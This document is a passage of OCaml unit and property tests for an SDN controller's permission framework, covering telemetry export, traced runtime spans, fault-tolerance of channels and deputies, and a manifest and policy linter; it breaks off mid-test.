  Trace.record tr (dummy_span 1);
  let snap = Telemetry.snapshot ~counters:[ ("calls", 7) ] ~trace:tr () in
  let json = Telemetry.to_json snap in
  (match Telemetry.Json.of_string json with
  | Error e -> Alcotest.failf "snapshot JSON does not parse: %s" e
  | Ok v ->
    Alcotest.(check bool) "JSON round-trips structurally" true
      (v = Telemetry.to_json_value snap);
    (match Telemetry.Json.member "counters" v with
    | Some (Telemetry.Json.Obj fields) ->
      Alcotest.(check bool) "counters present" true
        (List.mem_assoc "calls" fields)
    | _ -> Alcotest.fail "no counters object"));
  (match Telemetry.validate_prometheus (Telemetry.to_prometheus snap) with
  | Ok () -> ()
  | Error e -> Alcotest.failf "Prometheus exposition invalid: %s" e);
  check_contains "prometheus has the counter" ~sub:"sdnshield_calls_total 7"
    (Telemetry.to_prometheus snap);
  Metrics.unregister_hist "test:lat"

let test_json_parser_rejects_garbage () =
  List.iter
    (fun s ->
      match Telemetry.Json.of_string s with
      | Ok _ -> Alcotest.failf "parsed garbage %S" s
      | Error _ -> ())
    [ ""; "{"; "[1,]"; "{\"a\":}"; "nulll"; "\"unterminated" ]

(* Traced runtime ------------------------------------------------------------ *)

let pkt_in dpid =
  Events.Packet_in
    { Message.dpid; in_port = 1; packet = Packet.arp ~src:0xA ~dst:0xB ();
      reason = Message.No_match; buffer_id = None }

(* A monolithic traced run is fully deterministic: every call records
   a span inline (deputy = -1, no queue wait), and every denial is
   explained. *)
let test_traced_runtime_denials_explained () =
  let kernel = Kernel.create (Dataplane.create (Topology.linear 2)) in
  let handled = ref 0 in
  let app =
    App.make
      ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx ev ->
        match ev with
        | Events.Packet_in pi ->
          incr handled;
          let priority = if !handled mod 2 = 0 then 1_000 else 100 in
          ignore
            (ctx.App.call
               (Api.Install_flow
                  ( pi.Message.dpid,
                    Flow_mod.add ~priority
                      ~match_:(Match_fields.make ~tp_dst:(!handled mod 8) ())
                      ~actions:[ Action.Output 1 ] () )))
        | _ -> ())
      "traced"
  in
  let engine =
    Engine.create ~cache_size:256
      ~ownership:(Ownership.create ())
      ~app_name:"traced" ~cookie:1
      (Perm_parser.manifest_exn
         "PERM insert_flow LIMITING MAX_PRIORITY 400\nPERM pkt_in_event")
  in
  let trace = Trace.create ~capacity:64 () in
  let config = { Runtime.default_config with Runtime.trace = Some trace } in
  let rt =
    Runtime.create ~config ~mode:Runtime.Monolithic kernel
      [ (app, Engine.checker engine) ]
  in
  for _ = 1 to 20 do
    Runtime.feed_sync rt (pkt_in 1)
  done;
  let spans = Runtime.spans rt in
  Alcotest.(check int) "every install call has a span" 20 (List.length spans);
  let denied =
    List.filter (fun (s : Trace.span) -> s.Trace.decision = Trace.Denied) spans
  in
  Alcotest.(check int) "half denied" 10 (List.length denied);
  List.iter
    (fun (s : Trace.span) ->
      Alcotest.(check string) "span call kind" "install_flow" s.Trace.call;
      Alcotest.(check int) "inline deputy" (-1) s.Trace.deputy;
      Alcotest.(check (float 0.)) "no queue wait inline" 0. s.Trace.queue_wait;
      match s.Trace.explain with
      | Some ex when s.Trace.decision = Trace.Denied ->
        check_contains "denial explained" ~sub:"MAX_PRIORITY 400" ex
      | Some _ -> ()
      | None -> Alcotest.failf "span #%d has no explanation" s.Trace.seq)
    spans;
  (* The snapshot sees the trace store's accounting. *)
  let snap = Runtime.telemetry rt in
  (match snap.Telemetry.trace with
  | Some st -> Alcotest.(check int) "snapshot trace recorded" 20 st.Trace.recorded
  | None -> Alcotest.fail "telemetry snapshot lost the trace store");
  Runtime.shutdown rt;
  Metrics.unregister_cache "engine:traced";
  List.iter Metrics.unregister_hist
    [ "lat:queue"; "lat:check"; "lat:exec"; "lat:total"; "lat:app:traced" ]

(* Lifecycle transaction spans ----------------------------------------------- *)

let unregister_stage_hists () =
  List.iter
    (fun (name, _) ->
      if String.length name >= 10 && String.sub name 0 10 = "lat:stage:" then
        Metrics.unregister_hist name)
    (Metrics.hist_report ())

(* One committed and one rolled-back lifecycle request through the real
   executor: each leaves a parent transaction span whose stage children
   account for the parent's duration, and whose verdict mirrors the
   ledger outcome (including the failed stage). *)
let test_txn_spans_lifecycle () =
  let trace = Trace.create () in
  let t =
    match Epoch.create ~policy:"" () with
    | Ok t -> t
    | Error e -> Alcotest.failf "policy rejected: %s" e
  in
  let m = Epoch.market ~trace t in
  let manifest = "PERM insert_flow LIMITING MAX_PRIORITY 400\nPERM pkt_in_event" in
  let o1 = Market.submit m (Market.install "alpha" manifest) in
  let o2 = Market.submit m (Market.install "alpha" manifest) in
  Market.shutdown m;
  Epoch.close t;
  Alcotest.(check bool) "first install committed" true (Market.committed o1);
  Alcotest.(check bool) "re-install rolled back" false (Market.committed o2);
  let spans = Trace.txn_spans trace in
  Alcotest.(check int) "one span per transaction" 2 (List.length spans);
  let s1 = List.nth spans 0 and s2 = List.nth spans 1 in
  (* Committed parent: verdict, epochs, and stage accounting. *)
  Alcotest.(check bool) "span 1 committed" true (Trace.txn_committed s1);
  Alcotest.(check int) "span 1 id" 1 s1.Trace.id;
  Alcotest.(check int) "epoch before commit" 0 s1.Trace.epoch_before;
  Alcotest.(check int) "epoch after commit" 1 s1.Trace.epoch_after;
  let stage_names =
    List.map (fun (st : Trace.stage_span) -> st.Trace.stage) s1.Trace.stages
  in
  List.iter
    (fun expected ->
      Alcotest.(check bool)
        (Printf.sprintf "commit ran stage %s" expected)
        true (List.mem expected stage_names))
    [ "vet"; "reconcile"; "verify"; "compile"; "publish" ];
  let sum =
    List.fold_left
      (fun acc (st : Trace.stage_span) -> acc +. st.Trace.dur)
      0. s1.Trace.stages
  in
  Alcotest.(check bool)
    (Printf.sprintf "stage children (%.6fs) fit inside parent (%.6fs)" sum
       s1.Trace.txn_total)
    true
    (sum <= s1.Trace.txn_total +. 1e-3);
  Alcotest.(check bool)
    (Printf.sprintf "parent (%.6fs) mostly accounted by children (%.6fs)"
       s1.Trace.txn_total sum)
    true
    (s1.Trace.txn_total -. sum <= 0.05);
  (* Offsets are cumulative: each child starts at or after the previous
     child's end. *)
  ignore
    (List.fold_left
       (fun prev_end (st : Trace.stage_span) ->
         Alcotest.(check bool)
           (Printf.sprintf "stage %s starts after the previous ends"
              st.Trace.stage)
           true
           (st.Trace.offset >= prev_end -. 1e-9);
         st.Trace.offset +. st.Trace.dur)
       0. s1.Trace.stages);
  (* Rolled-back parent: the span's failed stage is the ledger's. *)
  (match (o2, s2.Trace.verdict) with
  | Market.Rolled_back { stage; epoch; _ }, Trace.Txn_rolled_back v ->
    Alcotest.(check string) "span names the failed stage" stage v.stage;
    Alcotest.(check string) "vet failed" "vet" v.stage;
    Alcotest.(check int) "rollback leaves the epoch" epoch s2.Trace.epoch_after;
    Alcotest.(check int) "epoch unchanged by rollback" s2.Trace.epoch_before
      s2.Trace.epoch_after
  | _ -> Alcotest.fail "rolled-back transaction has a committed span");
  (* The span's stage list mirrors the outcome's timing list. *)
  Alcotest.(check (list string)) "span stages = outcome stages"
    (List.map fst (Market.stages_of o2))
    (List.map (fun (st : Trace.stage_span) -> st.Trace.stage) s2.Trace.stages);
  unregister_stage_hists ()

(* Timeline export ----------------------------------------------------------- *)

let arb_timeline_store =
  let open QCheck in
  let span_gen =
    Gen.(
      map
        (fun (st, (qw, cd, ed)) ->
          { Trace.seq = 0; app = "a"; call = "install_flow"; deputy = -1;
            start = st; queue_wait = qw; check_dur = cd; exec_dur = ed;
            total = qw +. cd +. ed; decision = Trace.Allowed;
            cache = Api.Uncached; explain = None })
        (pair (float_bound_inclusive 1.0)
           (triple (float_bound_inclusive 0.01) (float_bound_inclusive 0.01)
              (float_bound_inclusive 0.01))))
  in
  let txn_gen =
    Gen.(
      map
        (fun (st, durs, committed) ->
          let stages =
            List.rev
              (fst
                 (List.fold_left
                    (fun (acc, off) dur ->
                      ( { Trace.stage = "stage"; offset = off; dur } :: acc,
                        off +. dur ))
                    ([], 0.) durs))
          in
          let total =
            List.fold_left
              (fun acc (s : Trace.stage_span) -> acc +. s.Trace.dur)
              0. stages
          in
          { Trace.tseq = 0; id = 1; kind = "install"; txn_app = "a";
            verdict =
              (if committed then
                 Trace.Txn_committed { delta = false; republished = [] }
               else Trace.Txn_rolled_back { stage = "vet"; reason = "refused" });
            epoch_before = 0;
            epoch_after = (if committed then 1 else 0);
            txn_start = st; txn_total = total; stages })
        (triple (float_bound_inclusive 1.0)
           (list_size (int_range 0 6) (float_bound_inclusive 0.005))
           bool))
  in
  make
    Gen.(
      pair
        (list_size (int_range 0 20) span_gen)
        (list_size (int_range 0 10) txn_gen))

(* Every "X" event's ts is non-decreasing within its track (tid). *)
let monotone_per_track v =
  match Telemetry.Json.member "traceEvents" v with
  | Some (Telemetry.Json.Arr events) ->
    let by_tid = Hashtbl.create 4 in
    List.iter
      (fun e ->
        match e with
        | Telemetry.Json.Obj fields
          when List.assoc_opt "ph" fields = Some (Telemetry.Json.Str "X") -> (
          match
            (List.assoc_opt "tid" fields, List.assoc_opt "ts" fields)
          with
          | Some (Telemetry.Json.Num tid), Some (Telemetry.Json.Num ts) ->
            let prev = try Hashtbl.find by_tid tid with Not_found -> [] in
            Hashtbl.replace by_tid tid (ts :: prev)
          | _ -> ())
        | _ -> ())
      events;
    Hashtbl.fold
      (fun _ rev_ts acc ->
        let ts = List.rev rev_ts in
        acc && List.sort Float.compare ts = ts)
      by_tid true
  | _ -> false

let timeline_qsuite =
  [ QCheck.Test.make ~count:100
      ~name:"timeline export round-trips through Json and is monotone per track"
      arb_timeline_store
      (fun (calls, txns) ->
        let tr = Trace.create () in
        List.iter (Trace.record tr) calls;
        List.iter (Trace.record_txn tr) txns;
        let doc = Timeline.to_json tr in
        match Telemetry.Json.of_string (Timeline.to_string tr) with
        | Error _ -> false
        | Ok parsed -> parsed = doc && monotone_per_track parsed) ]

let suite =
  [ Alcotest.test_case "ring wraparound" `Quick test_ring_wraparound;
    Alcotest.test_case "sampling stride" `Quick test_sampling_stride;
    Alcotest.test_case "create validation" `Quick test_create_validation;
    Alcotest.test_case "filter explain clauses" `Quick
      test_filter_explain_clauses;
    Alcotest.test_case "filter explain agrees with eval" `Quick
      test_filter_explain_agrees_with_eval;
    Alcotest.test_case "engine check_explained" `Quick
      test_engine_check_explained;
    Alcotest.test_case "compiled check_explained" `Quick
      test_compiled_check_explained;
    Alcotest.test_case "histogram merge laws" `Quick test_histogram_merge_laws;
    Alcotest.test_case "histogram edges" `Quick test_histogram_edges;
    Alcotest.test_case "telemetry roundtrip" `Quick test_telemetry_roundtrip;
    Alcotest.test_case "json parser rejects garbage" `Quick
      test_json_parser_rejects_garbage;
    Alcotest.test_case "lifecycle txn spans" `Quick test_txn_spans_lifecycle;
    Alcotest.test_case "traced runtime explains denials" `Quick
      test_traced_runtime_denials_explained ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false)
      (qsuite @ timeline_qsuite)
