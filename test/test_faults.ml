(* Regression tests for the fault-tolerant runtime (docs/RUNTIME.md):
   bounded channels with backpressure, [Ivar.read_timeout], the deputy
   exception barrier, supervisor restarts, call deadlines, kernel-lock
   release on exception, and the in-flight accounting of rejected
   deliveries.  Each scenario pins a failure mode that used to wedge
   the runtime — a hang here IS the regression. *)

open Shield_openflow
open Shield_net
open Shield_controller

(* Bounded channels -------------------------------------------------------- *)

let test_channel_reject () =
  let ch = Channel.create ~capacity:2 ~policy:Channel.Reject () in
  Channel.push ch 1;
  Channel.push ch 2;
  Alcotest.check_raises "full channel rejects" Channel.Full (fun () ->
      Channel.push ch 3);
  Alcotest.(check (option int)) "pop frees a slot" (Some 1) (Channel.pop ch);
  Channel.push ch 3;
  Alcotest.(check int) "depth back at capacity" 2 (Channel.length ch);
  Alcotest.(check int) "high-water mark" 2 (Channel.high_water ch);
  Alcotest.(check bool) "capacity accessor" true (Channel.capacity ch = Some 2);
  Alcotest.(check bool) "capacity must be positive" true
    (match Channel.create ~capacity:0 () with
    | (_ : int Channel.t) -> false
    | exception Invalid_argument _ -> true)

let test_channel_block_backpressure () =
  let ch = Channel.create ~capacity:1 () in
  Channel.push ch 1;
  let second_done = Atomic.make false in
  let th =
    Thread.create
      (fun () ->
        Channel.push ch 2;
        Atomic.set second_done true)
      ()
  in
  Thread.delay 0.05;
  Alcotest.(check bool) "pusher parked on full channel" false
    (Atomic.get second_done);
  Alcotest.(check int) "depth capped at capacity" 1 (Channel.length ch);
  Alcotest.(check (option int)) "first out" (Some 1) (Channel.pop ch);
  Thread.join th;
  Alcotest.(check bool) "pusher resumed after pop" true
    (Atomic.get second_done);
  Alcotest.(check (option int)) "second out" (Some 2) (Channel.pop ch);
  Alcotest.(check int) "bounded queue never overfilled" 1
    (Channel.high_water ch)

let test_channel_close_wakes_pusher () =
  let ch = Channel.create ~capacity:1 () in
  Channel.push ch 1;
  let outcome = ref `Pending in
  let th =
    Thread.create
      (fun () ->
        match Channel.push ch 2 with
        | () -> outcome := `Pushed
        | exception Channel.Closed -> outcome := `Closed)
      ()
  in
  Thread.delay 0.05;
  Channel.close ch;
  Thread.join th;
  Alcotest.(check bool) "blocked pusher woken with Closed" true
    (!outcome = `Closed);
  Alcotest.(check (option int)) "pending element survives close" (Some 1)
    (Channel.pop ch);
  Alcotest.(check (option int)) "then drained" None (Channel.pop ch)

let test_ivar_read_timeout () =
  let iv = Channel.Ivar.create () in
  Alcotest.(check (option int)) "empty ivar times out" None
    (Channel.Ivar.read_timeout iv 0.02);
  Channel.Ivar.fill iv 42;
  Alcotest.(check (option int)) "filled ivar returns" (Some 42)
    (Channel.Ivar.read_timeout iv 0.02);
  let iv2 = Channel.Ivar.create () in
  let th =
    Thread.create
      (fun () ->
        Thread.delay 0.03;
        Channel.Ivar.fill iv2 7)
      ()
  in
  Alcotest.(check (option int)) "value arriving before the deadline wins"
    (Some 7)
    (Channel.Ivar.read_timeout iv2 5.);
  Thread.join th

(* Runtime fault paths ----------------------------------------------------- *)

let mk_kernel () = Kernel.create (Dataplane.create (Topology.linear 2))

let install () =
  Api.Install_flow
    (1, Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] ())

let pkt_in () =
  Events.Packet_in
    { Message.dpid = 1; in_port = 1; packet = Packet.arp ~src:0xA ~dst:0xB ();
      reason = Message.No_match; buffer_id = None }

let is_failed = function Api.Failed _ -> true | _ -> false

(* A checker raising mid-decision must surface as [Api.Failed] through
   the deputy barrier, never as a hung reply — and the runtime must
   keep serving afterwards. *)
let test_checker_raise_becomes_failed () =
  let raising =
    { Api.allow_all with
      Api.check =
        (fun call ->
          match call with
          | Api.Install_flow _ -> failwith "checker boom"
          | _ -> Api.Allow) }
  in
  let app = App.make "victim" in
  let rt =
    Runtime.create ~mode:(Runtime.Isolated { ksd_threads = 2 }) (mk_kernel ())
      [ (app, raising) ]
  in
  let ctx = Runtime.instance_ctx rt "victim" in
  Alcotest.(check bool) "raise converted to Failed" true
    (is_failed (ctx.App.call (install ())));
  let fr = Runtime.fault_report rt in
  Alcotest.(check bool) "barrier counted the failure" true
    (fr.Runtime.failures >= 1);
  Alcotest.(check bool) "runtime still live" true
    (match ctx.App.call Api.Read_topology with
    | Api.Topology_of _ -> true
    | _ -> false);
  Runtime.shutdown rt

(* A kernel call raising under the kernel lock (transaction and
   single-call paths) must release the lock — the next call would
   deadlock forever otherwise. *)
let test_kernel_raise_releases_kmutex_monolithic () =
  let app = App.make "mono" in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic (mk_kernel ())
      [ (app, Api.allow_all) ]
  in
  let ctx = Runtime.instance_ctx rt "mono" in
  Fun.protect ~finally:Faults.disarm (fun () ->
      Faults.configure ~kernel:1.0 ();
      Alcotest.(check bool) "txn propagates the kernel fault" true
        (match ctx.App.transaction [ install () ] with
        | exception Faults.Injected _ -> true
        | _ -> false);
      Alcotest.(check bool) "single call propagates the kernel fault" true
        (match ctx.App.call (install ()) with
        | exception Faults.Injected _ -> true
        | _ -> false));
  (* Disarmed: both paths must have released the kernel lock. *)
  Alcotest.(check bool) "kernel lock released after txn fault" true
    (ctx.App.call (install ()) = Api.Done);
  Alcotest.(check bool) "transactions work again" true
    (match ctx.App.transaction [ install () ] with Ok _ -> true | _ -> false);
  Runtime.shutdown rt

let test_kernel_raise_isolated_txn () =
  let app = App.make "iso" in
  let rt =
    Runtime.create ~mode:(Runtime.Isolated { ksd_threads = 1 }) (mk_kernel ())
      [ (app, Api.allow_all) ]
  in
  let ctx = Runtime.instance_ctx rt "iso" in
  Fun.protect ~finally:Faults.disarm (fun () ->
      Faults.configure ~kernel:1.0 ();
      Alcotest.(check bool) "deputy barrier converts txn fault to Error" true
        (match ctx.App.transaction [ install () ] with
        | Error _ -> true
        | Ok _ -> false));
  Alcotest.(check bool) "deputy and kernel lock survive" true
    (ctx.App.call (install ()) = Api.Done);
  let fr = Runtime.fault_report rt in
  Alcotest.(check bool) "failure counted" true (fr.Runtime.failures >= 1);
  Runtime.shutdown rt

(* A killed deputy drops the popped request on the floor: the caller
   must be saved by its deadline, the supervisor must restart the
   deputy, and the pool must serve again once the faults stop. *)
let test_deputy_kill_deadline_and_restart () =
  let app = App.make "deadline" in
  let config =
    { Runtime.default_config with
      Runtime.call_deadline = Some 0.15;
      restart_budget = 16 }
  in
  let rt =
    Runtime.create ~config
      ~mode:(Runtime.Isolated { ksd_threads = 2 })
      (mk_kernel ())
      [ (app, Api.allow_all) ]
  in
  let ctx = Runtime.instance_ctx rt "deadline" in
  Fun.protect ~finally:Faults.disarm (fun () ->
      Faults.configure ~deputy:1.0 ();
      Alcotest.(check bool) "dropped request expires at the deadline" true
        (ctx.App.call (install ()) = Api.Failed "deadline"));
  let fr = Runtime.fault_report rt in
  Alcotest.(check bool) "supervisor restarted the deputy" true
    (fr.Runtime.restarts >= 1);
  Alcotest.(check bool) "deadline expiry counted" true
    (fr.Runtime.deadlines >= 1);
  Alcotest.(check bool) "pool recovered" true
    (ctx.App.call (install ()) = Api.Done);
  Runtime.shutdown rt

(* A full Reject-policy event queue drops deliveries (counted) but the
   dispatcher stays live and [drain] terminates. *)
let test_reject_event_queue () =
  let handled = Atomic.make 0 in
  let app =
    App.make
      ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun _ _ ->
        Atomic.incr handled;
        Thread.delay 0.005)
      "slow"
  in
  let config =
    { Runtime.default_config with
      Runtime.ev_capacity = Some 1;
      ev_policy = Channel.Reject }
  in
  let rt =
    Runtime.create ~config
      ~mode:(Runtime.Isolated { ksd_threads = 1 })
      (mk_kernel ())
      [ (app, Api.allow_all) ]
  in
  for _ = 1 to 30 do
    Runtime.feed rt (pkt_in ())
  done;
  Runtime.drain rt;
  (* feed_sync against a saturated queue must still return: the reject
     path releases the completion latch. *)
  Runtime.feed_sync rt (pkt_in ());
  let fr = Runtime.fault_report rt in
  Alcotest.(check bool) "overflow deliveries rejected" true
    (fr.Runtime.rejections >= 1);
  Alcotest.(check bool) "some events handled" true (Atomic.get handled >= 1);
  Runtime.shutdown rt

(* Feeding a shut-down runtime must not leak in-flight accounting:
   [drain] afterwards has to return (the push-after-increment bug made
   it wait forever on a delivery that never happened). *)
let test_feed_after_shutdown () =
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ] ~handle:(fun _ _ -> ()) "late"
  in
  let rt =
    Runtime.create
      ~mode:(Runtime.Isolated { ksd_threads = 1 })
      (mk_kernel ())
      [ (app, Api.allow_all) ]
  in
  let gauge_names = List.map fst (Metrics.gauge_report ()) in
  Alcotest.(check bool) "queue gauges registered while live" true
    (List.mem "queue:ksd-reqs" gauge_names
    && List.mem "queue:ev:late" gauge_names);
  Runtime.feed rt (pkt_in ());
  Runtime.drain rt;
  Runtime.shutdown rt;
  Runtime.feed rt (pkt_in ());
  Runtime.drain rt;
  (* Reaching this line is the assertion: drain returned. *)
  Alcotest.(check bool) "gauges unregistered at shutdown" false
    (List.mem_assoc "queue:ksd-reqs" (Metrics.gauge_report ()))

(* Drain and shutdown must terminate with every fault site armed. *)
let test_drain_shutdown_under_faults () =
  let handled = Atomic.make 0 in
  let app =
    App.make
      ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        Atomic.incr handled;
        ignore (ctx.App.call (install ())))
      "stormy"
  in
  let config =
    { Runtime.default_config with
      Runtime.call_deadline = Some 0.1;
      restart_budget = 1_000;
      ev_capacity = Some 8 }
  in
  Fun.protect ~finally:Faults.disarm (fun () ->
      Faults.configure ~seed:11 ~checker:0.1 ~kernel:0.1 ~deputy:0.05 ();
      let rt =
        Runtime.create ~config
          ~mode:(Runtime.Isolated { ksd_threads = 2 })
          (mk_kernel ())
          [ (app, Faults.wrap_checker Api.allow_all) ]
      in
      for _ = 1 to 100 do
        Runtime.feed rt (pkt_in ())
      done;
      Runtime.drain rt;
      Runtime.shutdown rt);
  (* Reaching this line is the assertion: neither drain nor shutdown
     hung under injected faults. *)
  Alcotest.(check bool) "runtime made progress" true (Atomic.get handled >= 0)

let suite =
  [ Alcotest.test_case "channel: Reject policy raises Full" `Quick
      test_channel_reject;
    Alcotest.test_case "channel: Block policy parks the pusher" `Quick
      test_channel_block_backpressure;
    Alcotest.test_case "channel: close wakes blocked pushers" `Quick
      test_channel_close_wakes_pusher;
    Alcotest.test_case "ivar: read_timeout" `Quick test_ivar_read_timeout;
    Alcotest.test_case "deputy barrier: checker raise becomes Failed" `Quick
      test_checker_raise_becomes_failed;
    Alcotest.test_case "kmutex released on kernel fault (monolithic)" `Quick
      test_kernel_raise_releases_kmutex_monolithic;
    Alcotest.test_case "kmutex released on kernel fault (isolated txn)" `Quick
      test_kernel_raise_isolated_txn;
    Alcotest.test_case "deputy kill: deadline reply + supervisor restart"
      `Quick test_deputy_kill_deadline_and_restart;
    Alcotest.test_case "reject-policy event queue stays live" `Quick
      test_reject_event_queue;
    Alcotest.test_case "feed after shutdown leaks no in-flight count" `Quick
      test_feed_after_shutdown;
    Alcotest.test_case "drain/shutdown terminate under armed faults" `Quick
      test_drain_shutdown_under_faults ]
