(* Shield-lint: the rule catalogue, counters, renderers and the
   fail-degraded budget discipline (docs/LINTING.md).

   The qcheck properties pin the two ISSUE invariants: manifests
   synthesised by [Infer.of_trace] are lint-clean against their own
   trace (no over-privilege findings — inference IS the least
   privilege), and lint never raises on hostile inputs. *)

open Shield_controller
open Sdnshield
module Hostile = Shield_workload.Hostile_gen
module Pgen = Shield_workload.Perm_gen
module Prng = Shield_workload.Prng
module Json = Telemetry.Json

let filter = Test_util.filter_exn
let manifest = Test_util.manifest_exn

let policy src =
  match Policy_parser.of_string src with
  | Ok p -> p
  | Error e -> Alcotest.failf "policy parse: %s" e

let perm token f = { Perm.token; filter = f }

let read_example name =
  let candidates =
    [ Filename.concat "examples/lint" name;
      Filename.concat "../examples/lint" name ]
  in
  match List.find_opt Sys.file_exists candidates with
  | None -> Alcotest.failf "corpus file %s not found" name
  | Some path ->
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))

(* Catalogue ------------------------------------------------------------------- *)

let test_rule_ids () =
  Alcotest.(check int) "eight rules" 8 (List.length Lint.all_rules);
  List.iter
    (fun r ->
      match Lint.rule_of_id (Lint.rule_id r) with
      | Some r' when r' = r -> ()
      | _ -> Alcotest.failf "rule id %s does not round-trip" (Lint.rule_id r))
    Lint.all_rules;
  Alcotest.(check bool) "unknown id" true (Lint.rule_of_id "bogus" = None);
  List.iter
    (fun s ->
      match Lint.severity_of_label (Lint.severity_label s) with
      | Some s' when s' = s -> ()
      | _ -> Alcotest.fail "severity label does not round-trip")
    [ Lint.Error; Lint.Warn; Lint.Info ]

(* Manifest rules -------------------------------------------------------------- *)

let test_unsatisfiable () =
  let fs =
    Lint.lint_manifest [ perm Token.Insert_flow (filter "TCP_DST 80 AND TCP_DST 443") ]
  in
  Alcotest.(check bool) "fires" true (Lint.has_rule Lint.Unsatisfiable_filter fs);
  Alcotest.(check int) "is an Error" 1 (Lint.count Lint.Error fs);
  (* Cross-dimension conjunctions are fine. *)
  let fs =
    Lint.lint_manifest
      [ perm Token.Insert_flow (filter "TCP_DST 80 AND IP_DST 10.0.0.1") ]
  in
  Alcotest.(check bool) "cross-dimension silent" false
    (Lint.has_rule Lint.Unsatisfiable_filter fs);
  (* Complementary literals within one clause. *)
  let fs =
    Lint.lint_manifest
      [ perm Token.Insert_flow (filter "OWN_FLOWS AND NOT OWN_FLOWS") ]
  in
  Alcotest.(check bool) "complementary literals fire" true
    (Lint.has_rule Lint.Unsatisfiable_filter fs)

let test_vacuous () =
  let fs =
    Lint.lint_manifest
      [ perm Token.Delete_flow (filter "OWN_FLOWS OR NOT OWN_FLOWS") ]
  in
  Alcotest.(check bool) "tautology fires" true
    (Lint.has_rule Lint.Vacuous_filter fs);
  let fs = Lint.lint_manifest [ perm Token.Delete_flow (filter "OWN_FLOWS") ] in
  Alcotest.(check bool) "single atom silent" false
    (Lint.has_rule Lint.Vacuous_filter fs)

let test_shadowed () =
  let fs =
    Lint.lint_manifest
      [ perm Token.Insert_flow
          (filter
             "IP_DST 10.0.0.0 MASK 255.0.0.0 OR (IP_DST 10.1.0.0 MASK \
              255.255.0.0 AND OWN_FLOWS)") ]
  in
  Alcotest.(check bool) "narrower later clause fires" true
    (Lint.has_rule Lint.Shadowed_clause fs);
  let fs =
    Lint.lint_manifest
      [ perm Token.Insert_flow
          (filter
             "IP_DST 10.0.0.0 MASK 255.0.0.0 OR IP_DST 11.0.0.0 MASK \
              255.0.0.0") ]
  in
  Alcotest.(check bool) "disjoint clauses silent" false
    (Lint.has_rule Lint.Shadowed_clause fs)

let test_redundant () =
  let fs =
    Lint.lint_manifest
      [ perm Token.Read_statistics (filter "MAX_PRIORITY 100") ]
  in
  Alcotest.(check bool) "stats vs priority fires" true
    (Lint.has_rule Lint.Redundant_refinement fs);
  let fs =
    Lint.lint_manifest [ perm Token.Read_statistics (filter "FLOW_LEVEL") ]
  in
  Alcotest.(check bool) "stats level relevant" false
    (Lint.has_rule Lint.Redundant_refinement fs);
  (* A macro might expand to anything: never claim redundancy. *)
  let fs =
    Lint.lint_manifest [ perm Token.Read_statistics (filter "some_stub") ]
  in
  Alcotest.(check bool) "macro counts as relevant" false
    (Lint.has_rule Lint.Redundant_refinement fs)

let test_over_privilege () =
  let m, trace = Pgen.over_privileged ~n:64 () in
  (* Without a trace the audit cannot run. *)
  Alcotest.(check bool) "no trace, no audit" false
    (Lint.has_rule Lint.Over_privilege (Lint.lint_manifest m));
  let fs = Lint.lint_manifest ~trace m in
  let op = List.filter (fun f -> f.Lint.rule = Lint.Over_privilege) fs in
  Alcotest.(check bool) "unused token reported" true
    (List.exists
       (fun f -> Test_vetting.contains ~affix:"read_payload" f.Lint.location)
       op);
  Alcotest.(check bool) "strictly-wider filter reported" true
    (List.exists
       (fun f -> Test_vetting.contains ~affix:"insert_flow" f.Lint.location)
       op)

(* Policy rules ---------------------------------------------------------------- *)

let dirty_policy () = policy (read_example "dirty.policy")

let test_dead_binding () =
  let fs = Lint.lint_policy (dirty_policy ()) in
  let dead = List.filter (fun f -> f.Lint.rule = Lint.Dead_binding) fs in
  Alcotest.(check bool) "dead perm binding is a Warn" true
    (List.exists
       (fun f ->
         f.Lint.severity = Lint.Warn
         && Test_vetting.contains ~affix:"unused" f.Lint.message)
       dead);
  Alcotest.(check bool) "unreferenced stub is Info without manifests" true
    (List.exists
       (fun f ->
         f.Lint.severity = Lint.Info
         && Test_vetting.contains ~affix:"ghost_macro" f.Lint.message)
       dead);
  (* With the app manifests' stubs supplied, a used stub is live... *)
  let fs =
    Lint.lint_policy ~manifest_macros:[ "ghost_macro" ] (dirty_policy ())
  in
  Alcotest.(check bool) "stub in a manifest is live" false
    (List.exists
       (fun f -> Test_vetting.contains ~affix:"ghost_macro" f.Lint.message)
       fs);
  (* ...and a stub no manifest mentions is a definite Warn. *)
  let fs = Lint.lint_policy ~manifest_macros:[] (dirty_policy ()) in
  Alcotest.(check bool) "stub absent everywhere is a Warn" true
    (List.exists
       (fun f ->
         f.Lint.severity = Lint.Warn
         && Test_vetting.contains ~affix:"ghost_macro" f.Lint.message)
       fs)

let test_self_meet_join () =
  let fs = Lint.lint_policy (dirty_policy ()) in
  Alcotest.(check bool) "a MEET a fires" true
    (Lint.has_rule Lint.Self_meet_join fs);
  let fs =
    Lint.lint_policy
      (policy
         "LET a = { PERM read_statistics }\n\
          LET b = { PERM read_payload }\n\
          ASSERT a MEET b <= a")
  in
  Alcotest.(check bool) "a MEET b silent" false
    (Lint.has_rule Lint.Self_meet_join fs)

let test_overlapping_exclusive () =
  let fs = Lint.lint_policy (dirty_policy ()) in
  Alcotest.(check bool) "overlapping sides fire" true
    (Lint.has_rule Lint.Overlapping_exclusive fs);
  let fs =
    Lint.lint_policy
      (policy
         "LET a = { PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK \
          255.0.0.0 }\n\
          LET b = { PERM read_statistics }\n\
          ASSERT EITHER a OR b")
  in
  Alcotest.(check bool) "token-disjoint sides silent" false
    (Lint.has_rule Lint.Overlapping_exclusive fs)

(* The Diff engine upgrades over-privilege and overlapping-exclusive
   claims to confirmed witness calls, and the --deny gate counts
   witness-bearing findings once per rule so the upgrade can never
   flip an existing gate. *)
let test_witnesses_and_gate_count () =
  let m, trace = Pgen.over_privileged ~n:64 () in
  let fs = Lint.lint_manifest ~trace m in
  let op = List.filter (fun f -> f.Lint.rule = Lint.Over_privilege) fs in
  Alcotest.(check bool) "some over-privilege finding carries a witness" true
    (List.exists (fun f -> f.Lint.witnesses <> []) op);
  List.iter
    (fun f ->
      List.iter
        (fun (w : Diff.witness) ->
          Alcotest.(check bool) "witness call admitted by the audited grant"
            true
